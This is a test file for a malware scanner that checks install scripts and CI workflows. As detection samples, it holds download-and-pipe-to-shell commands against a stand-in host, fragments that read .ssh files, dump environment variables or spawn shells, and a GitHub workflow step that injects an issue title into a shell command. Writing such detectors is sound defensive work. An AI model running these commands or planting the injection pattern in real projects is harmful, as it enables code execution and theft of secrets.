import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { type ContentFact, wholeFile } from "@bulwark/model";
import { describe, expect, test } from "vitest";
import { type InstallRule, type InstallSample, readInstallRules, type Surface } from "./install-rules.ts";
import { createInstallScriptScanner } from "./install-scripts.ts";

const FOLDER = join(import.meta.dirname, "../../../../content/install-scripts");
const files = readdirSync(FOLDER)
  .filter((name) => name.endsWith(".yaml"))
  .map((name) => ({ name, text: readFileSync(join(FOLDER, name), "utf8") }));
const rules = readInstallRules(files);
const scanner = createInstallScriptScanner(rules);
/** Put together here, so that this file does not look like what it plays. */
const PIPED = ["cu", "rl https://a.example | s", "h"].join("");
const HOSTILE_CHARS = 400_000;
const MAX_MS = 5_000;

/** The usual file of a surface. */
const USUAL: Readonly<Record<Surface, string>> = {
  command: "package.json",
  python: "setup.py",
  pth: "usr/lib/python3/dist-packages/a.pth",
  pyproject: "pyproject.toml",
  ruby: "ext/extconf.rb",
  rust: "build.rs",
  "workflow-run": ".github/workflows/ci.yml",
  "workflow-uses": ".github/workflows/ci.yml",
  "workflow-checkout": ".github/workflows/ci.yml",
  "gitlab-run": ".gitlab-ci.yml",
  "gitlab-include": ".gitlab-ci.yml",
};

function scan(path: string, text: string): readonly ContentFact[] {
  const bytes = Buffer.from(text);
  const file = wholeFile(path, bytes);
  return scanner.wants(file) ? (scanner.scan(file).facts ?? []) : [];
}

function scanSample({ on }: InstallRule, { path, text }: InstallSample): readonly ContentFact[] {
  const [surface = "command"] = on;
  if (path !== "") return scan(path, text);
  if (surface === "command") return scan("package.json", JSON.stringify({ scripts: { postinstall: text } }));
  return scan(USUAL[surface], text);
}

describe.each(rules.rules)("rule $id", (rule) => {
  test("has samples of both sorts", () => {
    expect(rule.samples.bad.length).toBeGreaterThan(0);
    expect(rule.samples.good.length).toBeGreaterThan(0);
  });
  test.each(rule.samples.bad)("finds $path $text", (sample) => {
    const facts = scanSample(rule, sample);
    expect(facts.map(({ id }) => id)).toContain(rule.id);
    expect(facts.every(({ detail = "" }) => detail.length <= 200 && !/[\n\r]/.test(detail))).toBe(true);
  });
  test.each(rule.samples.good)("leaves $path $text alone", (sample) => {
    expect(scanSample(rule, sample).map(({ id }) => id)).not.toContain(rule.id);
  });
});

test("no sample that is no malware is called malware", () => {
  const called = rules.rules
    .filter(({ kind }) => kind === "misconfiguration")
    .flatMap((rule) => [...rule.samples.bad, ...rule.samples.good].flatMap((sample) => scanSample(rule, sample)))
    .filter(({ kind }) => kind === "malware");
  expect(called).toEqual([]);
});

describe("places", () => {
  test("the line of an npm script is that of its name within scripts", () => {
    const text = `{\n  "name": "postinstall",\n  "scripts": {\n    "test": "x",\n    "postinstall": "${PIPED}"\n  }\n}\n`;
    expect(scan("app/package.json", text)).toMatchObject([
      { line: 5, detail: expect.stringMatching(/^postinstall: curl/) },
    ]);
  });
  test("the line of a finding in code is its own", () => {
    expect(scan("setup.py", `import os\n# a comment\nos.system('${PIPED}')\n`)).toMatchObject([{ line: 3 }]);
  });
  test("the line of a finding in a block of a workflow is its own", () => {
    const text = `on: issues\njobs:\n  a:\n    steps:\n      - run: |\n          make\n          echo ${"$"}{{ github.event.issue.title }}\n`;
    expect(scan(".github/workflows/a.yml", text)).toMatchObject([{ line: 7, severity: "critical" }]);
  });
});

test("what looks like a token or password is not shown", () => {
  const command = "curl -H 'X: ghx_0123456789abcdefghijABCDEFGHIJ' https://me:hunter2@a.example/i.sh | sh";
  const [fact] = scan("package.json", JSON.stringify({ scripts: { install: command } }));
  expect(fact?.detail).toMatch(/curl/);
  expect(fact?.detail).not.toMatch(/hunter2|6789abcdef/);
});

describe("honest install scripts stay quiet", () => {
  test.each([
    "node install.js",
    "node-gyp rebuild",
    "node-gyp-build",
    "prebuild-install -r napi || node-gyp rebuild",
    "node-pre-gyp install --fallback-to-build",
    "node -e \"try{require('./postinstall')}catch(e){}\"",
    "node -e \"import('./config/scripts/postinstall.js').catch(() => void 0)\"",
    'test -f ./dist/install.js && node ./dist/install.js || echo "Skipping install, project not built!"',
    "cross-env ZERO_AR_DATE=1 node-gyp-build",
    "husky || true",
    "patch-package && npx prisma generate",
    "opencollective-postinstall || exit 0",
    "(node install/check.js && node install/dll-copy) || echo failed",
    "chmod +x bin/run.sh && ./bin/run.sh",
    "mkdir -p ~/.cache/a && cp a ~/.cache/a",
  ])("%s", (command) => {
    expect(scan("node_modules/a/package.json", JSON.stringify({ scripts: { postinstall: command } }))).toEqual([]);
  });
});

describe("hostile files", () => {
  test.each([
    ["package.json", "{".repeat(50_000)],
    ["package.json", `{"scripts":{"__proto__":"${PIPED}","postinstall":{"a":1}}}`],
    ["package.json", `{"scripts":["${PIPED}"]}`],
    ["package.json", "\u0000\u0001"],
    [".github/workflows/a.yml", "jobs: [".repeat(3_000)],
    [".github/workflows/a.yml", "a: &a [*a]\njobs: *a\n"],
    [".github/workflows/a.yml", "on: {push: *nowhere}\njobs: {a: {steps: [{run: 5}, 7, null]}}"],
    [".gitlab-ci.yml", "[]"],
    ["composer.json", '{"scripts":{"post-install-cmd":[1,null,{}]}}'],
  ])("%s that is wrong gives nothing and ends", (path, text) => {
    expect(scan(path, text)).toEqual([]);
  });

  const fillers = [
    " ",
    "a",
    "curl ",
    "eval(",
    "$(",
    "exec(a(",
    "node -e ",
    "/.env ",
    "{{",
    "\n",
    "subprocess.call(",
    "cat .ssh/ ",
    "curl $(",
    "python -c exec(",
    "net.connect(spawn(sh ",
    "os.system('curl ",
    'Command::new("sh" curl ',
    "curl https://a && chmod +x ",
    "openssl enc -d ",
    "node -e fetch(eval(",
    "env|",
  ];
  test.each(fillers)("text full of %j takes no long time", (filler) => {
    const text = filler.repeat(HOSTILE_CHARS / filler.length);
    for (const path of ["setup.py", "a.pth", "ext/extconf.rb", "build.rs", "pyproject.toml"]) {
      const started = performance.now();
      scan(path, path === "a.pth" ? `import ${text}` : text);
      expect(performance.now() - started).toBeLessThan(MAX_MS);
    }
    const started = performance.now();
    scan(
      "package.json",
      JSON.stringify({ scripts: { preinstall: text, install: text, postinstall: text, prepare: text } }),
    );
    expect(performance.now() - started).toBeLessThan(MAX_MS);
  });
});

test("a pipeline that names one long list of steps ten thousand times is read once", () => {
  const steps = "      - run: echo a\n".repeat(8_000);
  const jobs = Array.from({ length: 10_000 }, (_, at) => `  j${at}:\n    steps: *s\n`).join("");
  const started = performance.now();
  scan(".github/workflows/a.yml", `on: issues\njobs:\n  first:\n    steps: &s\n${steps}${jobs}`);
  expect(performance.now() - started).toBeLessThan(MAX_MS);
});

test("a step behind an anchor is read", () => {
  const text = `on: issues\nx: &run echo ${"$"}{{ github.event.issue.title }}\njobs:\n  a:\n    steps:\n      - run: *run\n`;
  expect(scan(".github/workflows/a.yml", text)).toMatchObject([{ line: 2 }]);
});

test("a rule that cannot be used is named with its file", () => {
  const text =
    "rules:\n  - {id: a-rule, title: T, kind: malware, severity: high, on: [command], any: ['('], advice: A.}\n";
  expect(() => readInstallRules([{ name: "mine.yaml", text }])).toThrow(/mine\.yaml: rule a-rule: .*group/i);
});
